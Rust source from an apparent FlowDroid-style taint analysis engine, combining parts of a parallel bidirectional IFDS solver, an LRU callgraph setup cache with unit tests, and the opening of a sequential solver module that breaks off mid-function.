                let (facts, alias_gens) = self.flows.forward_assign(lhs, rhs, t);
                for g in alias_gens {
                    self.inject_alias_query(ctx, d1, n, &g);
                }
                facts
            }
            _ => vec![d2],
        };
        // Activation depends only on `n`; compute each output fact once
        // and fan out to all successors.
        let mut keys = Vec::with_capacity(out.len());
        for f in &out {
            keys.push(match f {
                Fact::T(t) => Fact::T(self.maybe_activate(ctx, n, t)),
                z => *z,
            });
        }
        let origin = Some((n, d2));
        for succ in self.flows.icfg.succs_of(n) {
            for k in &keys {
                self.fw_propagate(ctx, d1, succ, *k, origin);
            }
        }
    }

    fn forward_call(&self, ctx: &mut WorkerCtx, n: StmtRef, d2: Fact) {
        let Stmt::Invoke { call, .. } = self.stmt(n) else { return };
        for &callee in self.flows.icfg.callees_of_call(n) {
            let starts = self.flows.icfg.start_points_of(callee);
            let entry_facts = self.flows.call_flow(call, callee, &d2);
            for (d3, src_mark) in entry_facts {
                self.fw.add_incoming(callee, &d3, n, &d2);
                if let Some(cached) = self.cache.as_ref().and_then(|c| c.lookup(callee, &d3)) {
                    // Persisted summaries replace tabulating the callee
                    // body. Every racing call site installs the same
                    // cached exits itself before reading them back
                    // below, so no hit depends on another site's
                    // install.
                    for &(exit, ef) in cached {
                        self.fw.install_summary(callee, &d3, exit, &ef);
                        self.record_pred(exit, ef, Some((n, d2)));
                    }
                } else {
                    for &sp in &starts {
                        self.fw_propagate(ctx, d3, sp, d3, Some((n, d2)));
                        if let Some(src) = src_mark {
                            self.mark_source(sp, d3, src);
                        }
                    }
                }
                // Apply existing summaries (read *after* the incoming
                // context above: a concurrent exit either sees the
                // context or its summary is visible here).
                for (exit, d4) in self.fw.summaries_for(callee, &d3) {
                    self.apply_return_for_context(ctx, n, callee, exit, d4, d2);
                }
            }
        }
    }

    fn forward_exit(&self, ctx: &mut WorkerCtx, d1: Fact, n: StmtRef, d2: Fact) {
        let callee = self.flows.icfg.method_of(n);
        self.fw.install_summary(callee, &d1, n, &d2);
        for (call_site, d4) in self.fw.incoming_for(callee, &d1) {
            self.apply_return_for_context(ctx, call_site, callee, n, d2, d4);
        }
    }

    fn apply_return_for_context(
        &self,
        ctx: &mut WorkerCtx,
        call_site: StmtRef,
        callee: MethodId,
        exit: StmtRef,
        exit_fact: Fact,
        d4: Fact,
    ) {
        let mapped = self.flows.return_flow(call_site, callee, exit, &exit_fact);
        if mapped.is_empty() {
            return;
        }
        // Caller contexts: union of both solvers' path edges at the
        // call site (see the sequential engine).
        let mut d3s = self.fw.d1s_at(call_site, &d4);
        for d in self.bw.d1s_at(call_site, &d4) {
            if !d3s.contains(&d) {
                d3s.push(d);
            }
        }
        // Activation depends only on the call site; compute once per
        // mapped taint, not per (return site × context).
        let mut acts = Vec::with_capacity(mapped.len());
        for t in &mapped {
            acts.push(self.maybe_activate(ctx, call_site, t));
        }
        for ret_site in self.flows.icfg.return_sites_of_call(call_site) {
            for t in &acts {
                for &d3 in &d3s {
                    self.fw_propagate(ctx, d3, ret_site, Fact::T(*t), Some((exit, exit_fact)));
                    // Heap taints returning to the caller spawn a new
                    // alias search there (paper §4.2).
                    if !t.ap.is_empty() && t.ap.base_local().is_some() {
                        self.inject_alias_query(ctx, d3, call_site, t);
                    }
                }
            }
        }
    }

    fn forward_call_to_return(&self, ctx: &mut WorkerCtx, d1: Fact, n: StmtRef, d2: Fact) {
        let ctr = self.flows.call_to_return(n, &d2);
        for t in &ctr.leaks {
            ctx.leaks.push((n, *t));
            if self.config().progress.is_some() {
                self.leak_count.fetch_add(1, Ordering::Relaxed);
                let line = crate::results::line_of(self.flows.program(), n);
                let desc = t.ap.display(self.flows.program(), n.method);
                self.emit_progress(Some((line, desc)));
            }
        }
        for g in ctr.alias_gens {
            self.inject_alias_query(ctx, d1, n, &g);
        }
        let mut keys = Vec::with_capacity(ctr.out.len());
        for f in &ctr.out {
            let f = match f {
                Fact::T(t) => Fact::T(self.maybe_activate(ctx, n, t)),
                z => *z,
            };
            keys.push((f, !f.is_zero()));
        }
        let origin = Some((n, d2));
        for ret_site in self.flows.icfg.return_sites_of_call(n) {
            for (k, non_zero) in &keys {
                if ctr.src_mark && *non_zero {
                    self.mark_source(ret_site, *k, n);
                }
                self.fw_propagate(ctx, d1, ret_site, *k, origin);
            }
        }
    }

    // ================= backward (alias) solver =================

    fn process_backward(&self, ctx: &mut WorkerCtx, d1: Fact, n: StmtRef, d2: Fact) {
        match self.stmt(n) {
            Stmt::Invoke { .. } => {
                self.backward_call(ctx, d1, n, d2);
            }
            Stmt::Assign { lhs, rhs } => {
                self.backward_assign(ctx, d1, n, d2, lhs, rhs);
            }
            _ => {
                // Control flow and exits are transparent to aliasing.
                self.bw_to_preds(ctx, d1, n, d2);
            }
        }
    }

    /// Routes a backward fact above `n`; at the method start, hands the
    /// search to the forward solver with the backward calling contexts
    /// (Algorithm 2, lines 11–14).
    fn bw_to_preds(&self, ctx: &mut WorkerCtx, d1: Fact, n: StmtRef, d: Fact) {
        self.bw_to_preds_from(ctx, d1, n, d, Some((n, d)));
    }

    fn bw_to_preds_from(
        &self,
        ctx: &mut WorkerCtx,
        d1: Fact,
        n: StmtRef,
        d: Fact,
        origin: Option<(StmtRef, Fact)>,
    ) {
        let preds = self.flows.icfg.preds_of(n);
        if preds.is_empty() {
            let m = self.flows.icfg.method_of(n);
            let sp = StmtRef::new(m, 0);
            self.bw.install_summary(m, &d1, sp, &d);
            self.fw_propagate(ctx, d1, sp, d, origin);
            let contexts = self.bw.incoming_for(m, &d1);
            if !contexts.is_empty() {
                // Register the contexts with the forward solver, then
                // apply any forward summaries already known for (m, d1).
                // Contexts recorded later are covered by the call side
                // ([`Self::backward_call`] re-injects after its
                // `add_incoming`).
                for &(site, d4) in &contexts {
                    self.fw.add_incoming(m, &d1, site, &d4);
                }
                for (exit, d2x) in self.fw.summaries_for(m, &d1) {
                    for &(site, d4) in &contexts {
                        self.apply_return_for_context(ctx, site, m, exit, d2x, d4);
                    }
                }
            }
            return;
        }
        for pred in preds {
            self.bw_propagate(ctx, d1, pred, d, origin);
        }
    }

    fn backward_assign(
        &self,
        ctx: &mut WorkerCtx,
        d1: Fact,
        n: StmtRef,
        d2: Fact,
        lhs: &flowdroid_ir::Place,
        rhs: &flowdroid_ir::Rvalue,
    ) {
        let Fact::T(t) = d2 else { return };
        let flows = self.flows.backward_assign(&t, lhs, rhs);
        let origin = Some((n, d2));
        for g in flows.back {
            self.bw_to_preds_from(ctx, d1, n, Fact::T(g), origin);
        }
        for g in flows.fwd_at_n {
            self.fw_propagate(ctx, d1, n, Fact::T(g), origin);
        }
        for g in flows.fwd_after {
            for succ in self.flows.icfg.succs_of(n) {
                self.fw_propagate(ctx, d1, succ, Fact::T(g), origin);
            }
        }
    }

    fn backward_call(&self, ctx: &mut WorkerCtx, d1: Fact, n: StmtRef, d2: Fact) {
        let Stmt::Invoke { result, call } = self.stmt(n) else { return };
        let result = *result;
        let Fact::T(t) = d2 else { return };
        // Pass over the call unless the traced value is its result.
        let rooted_at_result = result.is_some() && t.ap.base_local() == result;
        if !rooted_at_result {
            self.bw_to_preds(ctx, d1, n, d2);
        }
        // Descend into body-having callees (aliases may be created
        // inside).
        for &callee in self.flows.icfg.callees_of_call(n) {
            for (g, exits) in self.flows.backward_call_entries(&t, result, call, callee) {
                let gk = Fact::T(g);
                self.bw.add_incoming(callee, &gk, n, &d2);
                for exit in exits {
                    self.bw_propagate(ctx, gk, exit, gk, Some((n, d2)));
                }
                // If the backward search already reached this callee's
                // start with entry fact `g`, the forward handoff has run
                // and did not see this context: register it now and
                // apply any forward summaries (see the sequential
                // engine for the pairing argument).
                if self.bw.has_summaries(callee, &gk) {
                    self.fw.add_incoming(callee, &gk, n, &d2);
                    for (exit, d2x) in self.fw.summaries_for(callee, &gk) {
                        self.apply_return_for_context(ctx, n, callee, exit, d2x, d2);
                    }
                }
            }
        }
    }

    // ================= results =================

    fn collect_results(
        self,
        mut recorded: Vec<(StmtRef, Taint)>,
        duration: std::time::Duration,
    ) -> InfoflowResults {
        let program = self.flows.program();
        let stats = self.sched.stats();
        let abort_reason = self.abort.reason();
        let summary_cache = self.cache.as_ref().map(|c| {
            // Only a completed fixpoint is persisted — partial
            // summaries from an aborted run would be unsound to replay.
            if abort_reason.is_none() {
                c.record_all(program, self.fw.all_summaries());
            }
            c.stats()
        });
        // Merge the provenance shards (each key lives in exactly one
        // shard, so this is a disjoint union).
        let mut preds: FxHashMap<(StmtRef, Fact), Vec<(StmtRef, Fact)>> = FxHashMap::default();
        let mut gen_source: FxHashMap<(StmtRef, Fact), StmtRef> = FxHashMap::default();
        for shard in &self.prov {
            let mut shard = shard.lock().unwrap();
            preds.extend(std::mem::take(&mut shard.preds));
            gen_source.extend(std::mem::take(&mut shard.gen_source));
        }
        // Canonical order before (sink, source) dedup, as in the
        // sequential engine.
        recorded.sort();
        recorded.dedup();
        let mut seen = std::collections::HashSet::new();
        let mut leaks = Vec::new();
        for (sink, taint) in &recorded {
            let (source, path) = attribute(&preds, &gen_source, *sink, taint, self.config());
            let key = (*sink, source);
            if !seen.insert(key) {
                continue;
            }
            leaks.push(Leak {
                sink: *sink,
                source,
                taint: taint.ap.display(program, sink.method),
                path,
            });
        }
        leaks.sort_by_key(|l| (l.sink, l.source));
        // The set of interned facts is the deterministic closure of
        // flow-function outputs (id *values* may race, counts do not).
        let (distinct_facts, distinct_aps) = self.fw.domain().stats().unwrap_or((0, 0));
        let fact_tables = {
            let mut t = self.fw.table_stats();
            t.merge(&self.bw.table_stats());
            t.widened_facts = self.fw.domain().widened_count();
            (t.any() || t.widened_facts > 0).then_some(t)
        };
        InfoflowResults {
            leaks,
            forward_propagations: self.fw.propagation_count(),
            backward_propagations: self.bw.propagation_count(),
            reachable_methods: self.flows.icfg.callgraph().reachable_methods().len(),
            distinct_facts,
            distinct_aps,
            duration,
            aborted: abort_reason.is_some(),
            abort_reason,
            scheduler: Some(stats),
            fact_tables,
            summary_cache,
        }
    }
}

/// The same deterministic breadth-first provenance walk as the
/// sequential engine's `attribute` (facts are their own keys here, so
/// no domain resolution is needed).
fn attribute(
    preds: &FxHashMap<(StmtRef, Fact), Vec<(StmtRef, Fact)>>,
    gen_source: &FxHashMap<(StmtRef, Fact), StmtRef>,
    sink: StmtRef,
    taint: &Taint,
    config: &InfoflowConfig,
) -> (Option<StmtRef>, Vec<StmtRef>) {
    if !config.track_paths {
        return (None, Vec::new());
    }
    let start = (sink, Fact::T(*taint));
    let mut visited = std::collections::HashSet::new();
    visited.insert(start);
    let mut parent: FxHashMap<(StmtRef, Fact), (StmtRef, Fact)> = FxHashMap::default();
    let mut queue = std::collections::VecDeque::from([start]);
    while let Some(cur) = queue.pop_front() {
        if let Some(&src) = gen_source.get(&cur) {
            let mut path = vec![cur.0];
            let mut walk = cur;
            while let Some(p) = parent.get(&walk) {
                path.push(p.0);
                walk = *p;
            }
            return (Some(src), path);
        }
        let mut origins = preds.get(&cur).cloned().unwrap_or_default();
        origins.sort_unstable();
        for o in origins {
            if visited.insert(o) {
                parent.insert(o, cur);
                queue.push_back(o);
            }
        }
    }
    (None, vec![sink])
}
