//! Daemon-resident callgraph / entry-point cache.
//!
//! Building the per-job analysis setup — discovering entry-point
//! components, materializing the reachable code, building the callgraph
//! — dominates setup time for small apps (see `BENCH_solver.json`).
//! All of it is a deterministic function of the app bytes and the
//! platform snapshot, so a long-lived daemon can compute it once per app
//! and replay it for every repeat job.
//!
//! An entry is keyed by app name and validated against a *fingerprint*
//! (FNV-1a 64 over the platform snapshot checksum and the app's SDEX
//! bytes, the same transitive-hash discipline as
//! [`crate::summary_cache`]): a lookup whose fingerprint disagrees with
//! the stored one drops the stale entry and reports a miss, so editing
//! an app or swapping the platform snapshot can never replay a setup
//! computed against different code. Eviction is bounded LRU.
//!
//! What is cached is deliberately *not* the materialized program — jobs
//! own their cheap copy-on-write overlays — but the recipe to rebuild
//! it: the [`flowdroid_ir::Program::materialization_log`] slices to
//! replay (reproducing arena ids exactly), the discovered
//! [`EntryPointModel`], the dummy-main id to expect, and the finished
//! [`CallGraph`]. Replaying the log through `ensure_body` on a fresh
//! overlay is cheap (body decode, no fixpoint discovery, no graph
//! construction) and bit-identical to the cold path.

use flowdroid_android::EntryPointModel;
use flowdroid_callgraph::CallGraph;
use flowdroid_ir::{FxHashMap, MethodId};
use std::sync::{Arc, Mutex};

/// A cached per-app analysis setup: everything between "program loaded"
/// and "solver starts" that does not depend on the job configuration.
#[derive(Debug)]
pub enum CachedSetup {
    /// Setup for the full Android pipeline
    /// ([`crate::Infoflow::analyze_app_cached`]).
    App {
        /// The discovered entry-point model (components + callbacks).
        model: EntryPointModel,
        /// Bodies materialized during component discovery, in order.
        pre_main: Vec<MethodId>,
        /// The dummy main the replayed program must reproduce.
        dummy_main: MethodId,
        /// Bodies materialized by the post-dummy-main closure, in order.
        post_main: Vec<MethodId>,
        /// The callgraph over the fully materialized program.
        cg: CallGraph,
    },
    /// Setup for explicit entry points
    /// ([`crate::Infoflow::run_demand_cached`]).
    Entry {
        /// Bodies materialized by the reachable closure, in order.
        materialized: Vec<MethodId>,
        /// The callgraph over the fully materialized program.
        cg: CallGraph,
    },
}

/// Counters describing a cache's lifetime behaviour.
#[derive(Clone, Copy, Debug, Default, PartialEq, Eq)]
pub struct CgCacheStats {
    /// Lookups that returned a valid entry.
    pub hits: u64,
    /// Lookups that found nothing (or only a stale entry).
    pub misses: u64,
    /// Entries dropped to respect the capacity bound.
    pub evictions: u64,
    /// Entries dropped because their fingerprint no longer matched.
    pub invalidations: u64,
    /// Entries currently resident.
    pub entries: usize,
}

#[derive(Debug)]
struct Entry {
    fingerprint: u64,
    setup: Arc<CachedSetup>,
    last_used: u64,
}

#[derive(Debug, Default)]
struct CacheInner {
    entries: FxHashMap<String, Entry>,
    tick: u64,
    hits: u64,
    misses: u64,
    evictions: u64,
    invalidations: u64,
}

/// A bounded, fingerprint-validated LRU cache of [`CachedSetup`]s.
///
/// Thread-safe: the daemon shares one behind an `Arc` across workers.
#[derive(Debug)]
pub struct CgCache {
    capacity: usize,
    inner: Mutex<CacheInner>,
}

impl CgCache {
    /// Creates a cache holding at most `capacity` entries (minimum 1).
    pub fn new(capacity: usize) -> Self {
        CgCache { capacity: capacity.max(1), inner: Mutex::new(CacheInner::default()) }
    }

    /// Looks up the setup for `key`, validating it against
    /// `fingerprint`. A fingerprint mismatch drops the stale entry and
    /// counts as an invalidation plus a miss.
    pub fn lookup(&self, key: &str, fingerprint: u64) -> Option<Arc<CachedSetup>> {
        let mut inner = self.inner.lock().unwrap();
        inner.tick += 1;
        let tick = inner.tick;
        let found = match inner.entries.get_mut(key) {
            Some(e) if e.fingerprint == fingerprint => {
                e.last_used = tick;
                Ok(Arc::clone(&e.setup))
            }
            Some(_) => Err(true),
            None => Err(false),
        };
        match found {
            Ok(setup) => {
                inner.hits += 1;
                Some(setup)
            }
            Err(stale) => {
                if stale {
                    inner.entries.remove(key);
                    inner.invalidations += 1;
                }
                inner.misses += 1;
                None
            }
        }
    }

    /// Stores `setup` for `key`, evicting the least-recently-used entry
    /// if the cache is full. Re-inserting an existing key replaces its
    /// entry in place (no eviction).
    pub fn insert(&self, key: &str, fingerprint: u64, setup: Arc<CachedSetup>) {
        let mut inner = self.inner.lock().unwrap();
        inner.tick += 1;
        let tick = inner.tick;
        if !inner.entries.contains_key(key) && inner.entries.len() >= self.capacity {
            if let Some(victim) = inner
                .entries
                .iter()
                .min_by_key(|(_, e)| e.last_used)
                .map(|(k, _)| k.clone())
            {
                inner.entries.remove(&victim);
                inner.evictions += 1;
            }
        }
        inner
            .entries
            .insert(key.to_owned(), Entry { fingerprint, setup, last_used: tick });
    }

    /// Current counters.
    pub fn stats(&self) -> CgCacheStats {
        let inner = self.inner.lock().unwrap();
        CgCacheStats {
            hits: inner.hits,
            misses: inner.misses,
            evictions: inner.evictions,
            invalidations: inner.invalidations,
            entries: inner.entries.len(),
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn dummy_setup() -> Arc<CachedSetup> {
        Arc::new(CachedSetup::Entry { materialized: Vec::new(), cg: CallGraph::default() })
    }

    #[test]
    fn lru_eviction_drops_the_coldest_entry() {
        let cache = CgCache::new(2);
        cache.insert("a", 1, dummy_setup());
        cache.insert("b", 2, dummy_setup());
        // Touch `a` so `b` becomes the LRU victim.
        assert!(cache.lookup("a", 1).is_some());
        cache.insert("c", 3, dummy_setup());
        assert!(cache.lookup("b", 2).is_none(), "LRU entry must be evicted");
        assert!(cache.lookup("a", 1).is_some());
        assert!(cache.lookup("c", 3).is_some());
        let s = cache.stats();
        assert_eq!(s.evictions, 1);
        assert_eq!(s.entries, 2);
    }

    #[test]
    fn reinserting_a_key_does_not_evict() {
        let cache = CgCache::new(2);
        cache.insert("a", 1, dummy_setup());
        cache.insert("b", 2, dummy_setup());
        cache.insert("a", 9, dummy_setup());
        assert_eq!(cache.stats().evictions, 0);
        assert!(cache.lookup("b", 2).is_some());
        assert!(cache.lookup("a", 9).is_some(), "replaced entry carries the new fingerprint");
    }

    #[test]
    fn fingerprint_mismatch_invalidates() {
        let cache = CgCache::new(4);
        cache.insert("app", 0xaaaa, dummy_setup());
        assert!(cache.lookup("app", 0xbbbb).is_none(), "stale fingerprint must miss");
        let s = cache.stats();
        assert_eq!(s.invalidations, 1);
        assert_eq!(s.misses, 1);
        assert_eq!(s.entries, 0, "stale entry is dropped, not kept");
        // The next insert+lookup under the new fingerprint works.
        cache.insert("app", 0xbbbb, dummy_setup());
        assert!(cache.lookup("app", 0xbbbb).is_some());
        assert_eq!(cache.stats().hits, 1);
    }

    #[test]
    fn counters_track_hits_and_misses() {
        let cache = CgCache::new(4);
        assert!(cache.lookup("nope", 7).is_none());
        cache.insert("yes", 7, dummy_setup());
        assert!(cache.lookup("yes", 7).is_some());
        assert!(cache.lookup("yes", 7).is_some());
        let s = cache.stats();
        assert_eq!(s.hits, 2);
        assert_eq!(s.misses, 1);
        assert_eq!(s.entries, 1);
    }
}
