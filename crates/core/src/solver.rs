//! The bidirectional taint solver (paper §4, Algorithms 1 and 2).
//!
//! Two [`Tabulator`]s — one forward (taint propagation), one backward
//! (on-demand alias search) — are driven in lockstep over the same fact
//! domain. The forward solver injects edges into the backward solver at
//! heap writes (carrying its `d1` context: **context injection**); the
//! backward solver spawns forward propagation for every alias it finds
//! and, on reaching a method's start, hands the search back to the
//! forward solver, never returning to callers itself.
//!
//! Fact conventions: a forward edge `(d1, n, d2)` means `d2` holds
//! *before* `n`; a backward edge `(d1, n, d)` means `d` holds *after*
//! `n` and the solver is searching upward for its aliases.
//!
//! The solver is generic over a [`FactDomain`]: with the default
//! [`InternedDomain`](crate::intern::InternedDomain) every table keys on
//! `u32` fact ids (hash-consed by the domain's interner), popped edges
//! are resolved to real [`Fact`]s once per statement visit, and each
//! produced fact is interned once before fan-out to successors /
//! return sites. [`DirectDomain`](crate::intern::DirectDomain) keys on
//! whole facts instead, preserving the pre-interning behavior for
//! benchmark comparison.

use crate::access_path::{AccessPath, ApBase};
use crate::config::InfoflowConfig;
use crate::intern::FactDomain;
use crate::results::{InfoflowResults, Leak};
use crate::sourcesink::SourceSinkManager;
use crate::taint::{Fact, Taint};
use crate::wrappers::{Pos, TaintWrapper};
use flowdroid_callgraph::Icfg;
use flowdroid_ifds::Tabulator;
use flowdroid_ir::{
    FxHashMap, InvokeExpr, Local, MethodId, Operand, Place, Program, Rvalue, Stmt, StmtRef,
};

/// The bidirectional solver, generic over the fact-key representation.
pub struct BiSolver<'a, D: FactDomain> {
    icfg: Icfg<'a>,
    sources: &'a SourceSinkManager,
    wrapper: &'a TaintWrapper,
    config: &'a InfoflowConfig,
    dom: D,
    fw: Tabulator<D::Key>,
    bw: Tabulator<D::Key>,
    leaks: Vec<(StmtRef, Taint)>,
    /// (stmt, fact) → predecessor (stmt, fact), for path reconstruction.
    preds: FxHashMap<(StmtRef, D::Key), (StmtRef, D::Key)>,
    /// (stmt, fact) → source statement that generated the fact.
    gen_source: FxHashMap<(StmtRef, D::Key), StmtRef>,
    /// Memoized "call site can transitively reach method" queries.
    reach_cache: FxHashMap<(StmtRef, MethodId), bool>,
    aborted: bool,
}

impl<'a, D: FactDomain> BiSolver<'a, D> {
    /// Creates a solver.
    pub fn new(
        icfg: Icfg<'a>,
        sources: &'a SourceSinkManager,
        wrapper: &'a TaintWrapper,
        config: &'a InfoflowConfig,
    ) -> Self {
        BiSolver {
            icfg,
            sources,
            wrapper,
            config,
            dom: D::new(),
            fw: Tabulator::new(),
            bw: Tabulator::new(),
            leaks: Vec::new(),
            preds: FxHashMap::default(),
            gen_source: FxHashMap::default(),
            reach_cache: FxHashMap::default(),
            aborted: false,
        }
    }

    fn program(&self) -> &'a Program {
        self.icfg.program()
    }

    fn k(&self) -> usize {
        self.config.max_access_path_length
    }

    /// Runs the analysis from the given entry methods and collects
    /// results.
    pub fn solve(mut self, entry_points: &[MethodId]) -> InfoflowResults {
        let start = std::time::Instant::now();
        let zero = self.dom.zero();
        for &ep in entry_points {
            for sp in self.icfg.start_points_of(ep) {
                self.fw.propagate(zero.clone(), sp, zero.clone());
            }
        }
        loop {
            if self.config.max_propagations > 0
                && self.fw.propagation_count() > self.config.max_propagations
            {
                self.aborted = true;
                break;
            }
            if let Some(edge) = self.fw.pop() {
                self.process_forward(edge.d1, edge.n, edge.d2);
                continue;
            }
            if let Some(edge) = self.bw.pop() {
                self.process_backward(edge.d1, edge.n, edge.d2);
                continue;
            }
            break;
        }
        self.collect_results(start.elapsed())
    }

    // ================= shared helpers =================

    fn stmt(&self, n: StmtRef) -> &'a Stmt {
        self.icfg.stmt(n)
    }

    /// Records a forward path edge with provenance for path
    /// reconstruction.
    fn fw_propagate(
        &mut self,
        d1: D::Key,
        n: StmtRef,
        d2: D::Key,
        from: Option<(StmtRef, D::Key)>,
    ) {
        let is_new = self.fw.propagate(d1, n, d2.clone());
        if is_new {
            self.record_pred(n, d2, from);
        }
    }

    /// Records a backward path edge with provenance (provenance links
    /// from both solvers share one map so alias detours stay walkable).
    fn bw_propagate(
        &mut self,
        d1: D::Key,
        n: StmtRef,
        d2: D::Key,
        from: Option<(StmtRef, D::Key)>,
    ) {
        let is_new = self.bw.propagate(d1, n, d2.clone());
        if is_new {
            self.record_pred(n, d2, from);
        }
    }

    fn record_pred(&mut self, n: StmtRef, d2: D::Key, from: Option<(StmtRef, D::Key)>) {
        if self.config.track_paths {
            if let Some(origin) = from {
                if origin != (n, d2.clone()) {
                    self.preds.entry((n, d2)).or_insert(origin);
                }
            }
        }
    }

    /// Marks `fact` at `n` as generated by the source statement `src`.
    fn mark_source(&mut self, n: StmtRef, fact: &D::Key, src: StmtRef) {
        if self.config.track_paths {
            self.gen_source.entry((n, fact.clone())).or_insert(src);
        }
    }

    /// Does the call at `call` transitively reach `target` (used for
    /// activation-statement call-tree lookup, paper §4.2)?
    fn call_reaches(&mut self, call: StmtRef, target: MethodId) -> bool {
        if let Some(&r) = self.reach_cache.get(&(call, target)) {
            return r;
        }
        let cg = self.icfg.callgraph();
        let r = self
            .icfg
            .callees_of_call(call)
            .iter()
            .any(|&c| c == target || cg.can_reach(c, target));
        self.reach_cache.insert((call, target), r);
        r
    }

    /// Activates an inactive taint whose activation statement is `n`
    /// itself or transitively inside a call at `n`.
    fn maybe_activate(&mut self, n: StmtRef, t: &Taint) -> Taint {
        if t.active {
            return t.clone();
        }
        let Some(act) = t.activation else { return t.clone() };
        if act == n {
            return t.activated();
        }
        if self.stmt(n).is_call() && self.call_reaches(n, act.method) {
            return t.activated();
        }
        t.clone()
    }

    /// The access path written by / read from a rvalue, when it is a
    /// plain place read or reference cast.
    fn readable_rvalue(rhs: &Rvalue) -> Option<AccessPath> {
        match rhs {
            Rvalue::Read(p) => Some(AccessPath::of_place(p)),
            Rvalue::Cast(_, Operand::Local(l)) => Some(AccessPath::local(*l)),
            _ => None,
        }
    }

    /// Extends the lhs place's access path with `rest` (array writes
    /// collapse to the whole array, dropping `rest`).
    fn lhs_ap_with(&self, lhs: &Place, rest: &[flowdroid_ir::FieldId]) -> AccessPath {
        let base = AccessPath::of_place(lhs);
        if matches!(lhs, Place::ArrayElem(..)) {
            return base;
        }
        let mut ap = base;
        for &f in rest {
            ap = ap.append(f, self.k());
        }
        ap
    }

    /// Injects an alias query for taint `g` (which holds after the heap
    /// write / wrapper call `n`) into the backward solver, with context
    /// injection of `d1` (Algorithm 1, line 16).
    fn inject_alias_query(&mut self, d1: &D::Key, n: StmtRef, g: &Taint) {
        if !self.config.enable_alias_analysis {
            return;
        }
        let q = if self.config.enable_activation_statements {
            if g.active {
                Taint::inactive(g.ap.clone(), n)
            } else {
                // Alias chains keep their original activation point.
                g.clone()
            }
        } else {
            g.activated()
        };
        let ctx = if self.config.enable_context_injection { d1.clone() } else { self.dom.zero() };
        let origin = self.dom.intern(&Fact::T(g.clone()));
        let qk = self.dom.intern(&Fact::T(q));
        self.bw_propagate(ctx, n, qk, Some((n, origin)));
    }

    // ================= forward solver =================

    fn process_forward(&mut self, d1: D::Key, n: StmtRef, d2: D::Key) {
        let d2f = self.dom.resolve(&d2);
        let stmt = self.stmt(n);
        let has_body_callees = !self.icfg.callees_of_call(n).is_empty();
        if stmt.is_call() && has_body_callees {
            self.forward_call(n, &d2, &d2f);
            self.forward_call_to_return(&d1, n, &d2, &d2f);
        } else if stmt.is_call() {
            self.forward_call_to_return(&d1, n, &d2, &d2f);
        } else if stmt.is_exit() {
            self.forward_exit(&d1, n, &d2);
        } else {
            self.forward_normal(&d1, n, &d2, &d2f);
        }
    }

    fn forward_normal(&mut self, d1: &D::Key, n: StmtRef, d2: &D::Key, d2f: &Fact) {
        let out = match (self.stmt(n).clone(), d2f) {
            (Stmt::Assign { lhs, rhs }, Fact::T(t)) => {
                let (facts, alias_gens) = self.forward_assign(&lhs, &rhs, t);
                for g in alias_gens {
                    self.inject_alias_query(d1, n, &g);
                }
                facts
            }
            _ => vec![d2f.clone()],
        };
        // Activation and interning depend only on `n`, so intern each
        // output fact once and fan the keys out to all successors.
        let mut keys = Vec::with_capacity(out.len());
        for f in &out {
            let f = match f {
                Fact::T(t) => Fact::T(self.maybe_activate(n, t)),
                z => z.clone(),
            };
            keys.push(self.dom.intern(&f));
        }
        let origin = Some((n, d2.clone()));
        for succ in self.icfg.succs_of(n) {
            for k in &keys {
                self.fw_propagate(d1.clone(), succ, k.clone(), origin.clone());
            }
        }
    }

    /// The forward transfer function for assignments (paper §4.1).
    /// Returns (output facts, taints requiring an alias query).
    fn forward_assign(&mut self, lhs: &Place, rhs: &Rvalue, t: &Taint) -> (Vec<Fact>, Vec<Taint>) {
        let mut out = Vec::new();
        let mut alias_gens = Vec::new();
        let lhs_is_local = matches!(lhs, Place::Local(_));
        // Strong update on locals only; `x = new` kills taints rooted at
        // `x`; heap locations are never strongly updated (paper §6.1:
        // the Button2 false positive comes exactly from this).
        let killed = match lhs {
            Place::Local(l) => t.ap.base_local() == Some(*l),
            _ => false,
        };
        if !killed {
            out.push(Fact::T(t.clone()));
        }
        // Generation.
        let gen_rest: Option<Vec<flowdroid_ir::FieldId>> = match rhs {
            Rvalue::Read(p) => {
                let rp = AccessPath::of_place(p);
                t.ap.read_remainder(&rp)
            }
            Rvalue::Cast(_, Operand::Local(l)) => {
                let rp = AccessPath::local(*l);
                t.ap.read_remainder(&rp)
            }
            Rvalue::BinOp(_, a, b) => {
                let matches_op = |o: &Operand| {
                    matches!(o, Operand::Local(l) if t.ap.base_local() == Some(*l) && t.ap.is_empty())
                };
                if matches_op(a) || matches_op(b) {
                    Some(Vec::new())
                } else {
                    None
                }
            }
            Rvalue::UnOp(_, a) => match a {
                Operand::Local(l) if t.ap.base_local() == Some(*l) && t.ap.is_empty() => {
                    Some(Vec::new())
                }
                _ => None,
            },
            Rvalue::Const(_) | Rvalue::New(_) | Rvalue::NewArray(..) | Rvalue::InstanceOf(..) => {
                None
            }
            Rvalue::Cast(_, _) => None,
        };
        if let Some(rest) = gen_rest {
            let ap = self.lhs_ap_with(lhs, &rest);
            let g = t.with_ap(ap);
            // Heap writes spawn the backward alias search; statics have
            // no aliases; array writes alias through the array object.
            if !lhs_is_local && !matches!(lhs, Place::StaticField(_)) {
                alias_gens.push(g.clone());
            }
            out.push(Fact::T(g));
        }
        (out, alias_gens)
    }

    fn forward_call(&mut self, n: StmtRef, d2: &D::Key, d2f: &Fact) {
        let Stmt::Invoke { call, .. } = self.stmt(n) else { return };
        let call = call.clone();
        for &callee in self.icfg.callees_of_call(n) {
            let starts = self.icfg.start_points_of(callee);
            let entry_facts = self.call_flow(&call, callee, d2f);
            for (d3f, src_mark) in entry_facts {
                let d3 = self.dom.intern(&d3f);
                self.fw.add_incoming(callee, d3.clone(), n, d2.clone());
                for &sp in &starts {
                    self.fw_propagate(d3.clone(), sp, d3.clone(), Some((n, d2.clone())));
                    if let Some(src) = src_mark {
                        self.mark_source(sp, &d3, src);
                    }
                }
                // Apply existing summaries.
                for (exit, d4) in self.fw.summaries_for(callee, &d3) {
                    self.apply_return(n, callee, exit, &d4, d2);
                }
            }
        }
    }

    /// Facts entering a callee, each with an optional source-statement
    /// mark (for parameter sources).
    fn call_flow(
        &mut self,
        call: &InvokeExpr,
        callee: MethodId,
        d2: &Fact,
    ) -> Vec<(Fact, Option<StmtRef>)> {
        let program = self.program();
        let m = program.method(callee);
        match d2 {
            Fact::Zero => {
                let mut out = vec![(Fact::Zero, None)];
                // Parameter sources: methods overriding framework
                // callback signatures receive tainted data (locations,
                // intents) from the framework.
                let param_sources = self.sources.entry_param_sources(program, callee);
                let starts = self.icfg.start_points_of(callee);
                for i in param_sources {
